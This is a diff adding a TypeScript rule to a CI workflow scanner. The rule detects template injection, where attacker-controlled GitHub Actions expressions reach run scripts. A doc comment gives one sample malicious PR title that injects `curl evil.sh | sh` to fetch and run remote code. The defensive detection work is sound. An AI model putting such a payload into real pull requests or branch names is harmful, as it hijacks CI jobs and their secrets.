@@ -1,0 +1,57 @@
+import type { FindingDraft } from '../../../core/finding.ts';
+import { findExpressions } from '../expressions/find-expressions.ts';
+import { draft, type PipelineRule } from '../pipeline-rule.ts';
+import { viewRange, viewScalar } from '../scalar-view.ts';
+import { actionName } from '../step-actions.ts';
+import { codeSinkInputs } from '../code-sink-inputs.ts';
+import { attackerSources, callerInputClassifier, envScopesOf, type EnvScopes } from '../taint.ts';
+import { allSteps, type PipelineFile, type ScalarField, type Step } from '../workflow-model.ts';
+
+/**
+ * `${{ … }}` is pasted into a script before the script runs. When the text comes from a pull
+ * request title, a branch name, an issue or a comment, whoever wrote it writes part of the
+ * script: a title like `"; curl evil.sh | sh; "` runs commands in the job, with its token and
+ * secrets. This is how the Ultralytics release was poisoned in December 2024. Passing the value
+ * through an environment variable keeps it data.
+ */
+export const templateInjection: PipelineRule = {
+  id: 'template-injection',
+  title: 'Attacker-controlled expression in a script',
+  severity: 'high',
+  confidence: 'high',
+  tags: ['CWE-94', 'injection'],
+  equivalents: ['template-injection', 'injection'],
+  description: 'A `${{ … }}` expression whose value an outsider controls (pull request, issue or comment text, branch names, commit messages), directly or through `env:`, inside `run:`, an `actions/github-script` `script:` or another action input that runs as code. Free-text inputs of composite actions and reusable workflows are reported at medium severity: the caller decides what they hold.',
+  remediation: 'Move the expression into `env:` (for example `TITLE: ${{ github.event.pull_request.title }}`) and use it as a quoted shell variable (`"$TITLE"`) or `process.env.TITLE` in scripts.',
+  check: (file) => [...codeSinks(file)].flatMap(({ field, step, job }) => injectionsIn(file, field, envScopesOf(file, job, step))),
+};
+
+function* codeSinks(file: PipelineFile) {
+  for (const { job, step } of allSteps(file)) {
+    if (step.run) yield { field: step.run, step, job };
+    for (const field of codeInputs(step)) yield { field, step, job };
+  }
+}
+
+function codeInputs(step: Step): ScalarField[] {
+  const inputs = codeSinkInputs.get(actionName(step) ?? '') ?? [];
+  return [...step.with].flatMap(([name, input]) => (input.value && inputs.includes(name.toLowerCase()) ? [input.value] : []));
+}
+
+function injectionsIn(file: PipelineFile, field: ScalarField, scopes: EnvScopes): FindingDraft[] {
+  const view = viewScalar(file.source, field);
+  const callerInputs = callerInputClassifier(file);
+  return findExpressions(view.text).flatMap((occurrence) => {
+    const expression = view.text.slice(occurrence.start, occurrence.end);
+    const range = viewRange(file.source, view, occurrence.start, occurrence.end);
+    const [source] = attackerSources(occurrence.body, scopes);
+    if (source) {
+      const message = `${expression} is pasted into the script before it runs and carries ${source}: whoever writes that text can run commands in this job with its token and secrets.`;
+      return [draft('template-injection', range, message, expression)];
+    }
+    const [input] = callerInputs ? attackerSources(occurrence.body, scopes, callerInputs) : [];
+    if (!input) return [];
+    const message = `${expression} pastes ${input}, free text chosen by each caller, into the script: a caller forwarding a pull request title or branch name lets its author run commands here.`;
+    return [{ ...draft('template-injection', range, message, expression), severity: 'medium' as const, confidence: 'medium' as const }];
+  });
+}
